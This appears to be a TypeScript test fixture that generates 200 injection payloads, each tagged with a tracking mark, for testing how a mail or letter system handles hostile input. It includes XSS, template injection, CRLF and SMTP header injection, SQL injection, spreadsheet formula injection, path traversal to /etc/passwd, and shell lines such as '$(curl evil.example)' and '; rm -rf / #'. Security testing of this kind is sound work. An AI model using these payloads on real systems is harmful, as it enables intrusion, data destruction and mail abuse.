// Two hundred texts that somebody may send in order to be more than text: markup, scripts, headers, placeholders,
// direction marks, statements, formulas. Each carries its number, by which it can be found again in a letter.
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe src="javascript:alert(1)"></iframe>',
  "'><body onload='alert(1)'>",
  '</p></body></html><h1>Paid</h1>',
  '<!-- <p> --><style>*{display:none}</style>',
  '<a href="javascript:alert(1)">here</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;b&#62;&amp;amp;',
  '<![CDATA[<b>]]>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password></form>',
  '<ScRiPt >alert`1`</sCrIpT>',
  '<x onclick="alert(1)" style=position:fixed;inset:0>',
  '<base href="https://evil.example/">',
];
const PLACEHOLDERS = [
  '((name))',
  '((one_time_link))',
  '((??show))',
  '${process.env.HOME}',
  '{{constructor.constructor("return process")()}}',
  '{% include "/etc/passwd" %}',
  '<%= 7 * 7 %>',
  '#{7*7}',
  '{0} %s %n %x',
  '$& $1 $$ $`',
  '__proto__',
  '[[text]]',
  '*|FNAME|*',
  '@@version',
];
const HEADERS = [
  'X\r\nBcc: all@evil.example',
  'X\nBcc: all@evil.example',
  'X\rSubject: Paid',
  'X\r\n\r\n<html>body</html>',
  'X\u2028Bcc: all@evil.example',
  'X\u2029Bcc: all@evil.example',
  'X\u0085Bcc: all@evil.example',
  'X\u000bBcc: all@evil.example',
  'X\u000cBcc: all@evil.example',
  'X%0d%0aBcc: all@evil.example',
  '=?utf-8?B?QmNjOiBhQGI=?=\r\n.\r\nMAIL FROM:<a@evil.example>',
  'X\r\n.\r\nQUIT',
];
const UNSEEN = [
  'abc\u202Edef',
  '\u2066left\u2069',
  '\u200Eltr\u200F',
  'nul\u0000byte',
  'bell\u0007 esc\u001b[31m',
  '\ufeffmark',
  'del\u007f c1\u009b',
  'lone\ud800surrogate',
  'z\u0301\u0302\u0303\u0304\u0305',
  'שלום \u202Eمرحبا',
];
const STATEMENTS = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  'Robert\'); DELETE FROM cases WHERE ("1"="1',
  '1; EXEC xp_cmdshell("dir")',
  '=HYPERLINK("https://evil.example","here")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  '; rm -rf / #',
  '$(curl evil.example)',
  '../../../../etc/passwd',
];
const MARKS = [
  '# A heading',
  '**Approved** by _everyone_',
  '[here](javascript:alert(1))',
  '![x](https://evil.example/p.png)',
  '> quoted\n> more',
  '- an item\n- another',
  '```\ncode\n```',
  '^ inset text',
  '---',
  'x'.repeat(20_000),
  '\u{1F600}'.repeat(3_000),
  '<b>'.repeat(4_000),
];

const KINDS = [...MARKUP, ...PLACEHOLDERS, ...HEADERS, ...UNSEEN, ...STATEMENTS, ...MARKS];

/** Each kind as it stands, within words, and after a line of its own, until there are two hundred. */
const wrapped: readonly ((kind: string, mark: string) => string)[] = [
  (kind, mark) => `${mark} ${kind} ${mark}`,
  (kind, mark) => `Dear all, ${kind}${mark} and so on`,
  (kind, mark) => `${mark}\n${kind}\n\n${kind}`,
];

export interface Payload {
  /** Letters and digits alone, found wherever the payload is. */
  readonly mark: string;
  readonly text: string;
}

export const PAYLOADS: readonly Payload[] = wrapped
  .flatMap((wrap) => KINDS.map((kind) => ({ wrap, kind })))
  .slice(0, 200)
  .map(({ wrap, kind }, at) => {
    const mark = `zq${String(at).padStart(3, '0')}qz`;
    return { mark, text: wrap(kind, mark) };
  });
